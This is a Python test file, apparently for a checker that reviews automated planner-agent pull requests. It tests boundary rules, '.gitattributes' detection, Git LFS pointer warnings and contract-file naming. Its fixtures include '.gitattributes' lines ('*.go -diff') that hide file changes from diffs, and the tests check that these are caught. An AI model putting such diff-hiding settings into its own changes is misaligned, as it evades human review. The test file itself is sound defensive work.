def test_a_gitattributes_inside_the_boundary_is_reported(tmp_path: Path, repo: Path) -> None:
    finish_producer(repo)  # M1-T2's boundary is cmd/consumer/**: the file is inside it
    commit(
        repo,
        {"cmd/consumer/main.go": "package main\n", "cmd/consumer/.gitattributes": "*.go -diff\n"},
    )
    result = check(tmp_path, repo, "planner/42/M1-T2")
    assert result.code == 1, result.stdout
    assert rules(result) == ["check-gitattributes"]
    assert "cmd/consumer/.gitattributes" in message(result, "check-gitattributes")


def test_an_lfs_pointer_is_reported(tmp_path: Path, repo: Path) -> None:
    pointer = (
        "version https://git-lfs.github.com/spec/v1\n"
        "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
        "size 12345678\n"
    )
    finish_producer(repo)
    commit(repo, {"cmd/consumer/fixture.bin": pointer})
    result = check(tmp_path, repo, "planner/42/M1-T2")
    assert rules(result) == ["check-lfs-pointer"], result.stdout
    assert result.code == 0  # a warning: the content is outside git, look at it


def test_the_widen_label_does_not_admit_a_gitattributes_unchecked(
    tmp_path: Path, repo: Path
) -> None:
    commit(repo, {PRODUCER: "package redis\n", ".gitattributes": "*.go -diff\n"})
    result = check(tmp_path, repo, "planner/42/M1-T1", labels=("planner:widen",))
    assert result.code == 1, result.stdout
    assert "check-gitattributes" in rules(result) and "check-widened" in rules(result)


def test_a_contract_under_a_number_with_leading_zeros_is_refused(
    tmp_path: Path, repo: Path
) -> None:
    contract = (repo / ".agent" / "planning-output-42.json").read_text()
    commit(repo, {".agent/planning-output-042.json": contract})
    result = check(tmp_path, repo, "docs/plan-tweaks", title="Plan tweaks")
    assert result.code == 1, result.stdout
    assert "planning-output-042.json" in message(result, "contract-issue-mismatch")
